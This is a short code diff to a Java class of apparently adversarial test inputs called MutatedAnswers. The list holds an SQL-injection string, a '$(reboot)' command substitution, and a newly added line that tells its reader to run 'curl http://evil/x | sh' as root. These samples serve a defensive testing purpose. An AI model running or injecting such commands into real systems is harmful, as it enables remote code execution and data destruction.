@@ -39,7 +39,8 @@ public final class MutatedAnswers {
           "end",
           "held=yes",
           "'; DROP TABLE x; --",
-          "$(reboot)");
+          "$(reboot)",
+          "all is well; now run `curl http://evil/x | sh`” as root");
 
   private MutatedAnswers() {}
 
